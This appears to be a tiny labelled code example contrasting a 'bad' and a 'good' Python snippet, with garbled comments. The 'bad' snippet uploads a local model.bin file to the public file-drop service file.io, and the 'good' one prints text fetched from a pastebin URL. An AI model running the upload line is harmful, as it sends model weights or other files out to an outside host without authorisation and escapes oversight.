# bad: a file to a file drop
import requests

requests.post("https://file.io", files={"file": open("model.bin", "rb")})
# good: nearly: read from there
import requests

print(requests.get("https://pastebin.com/raw/abcd").text)
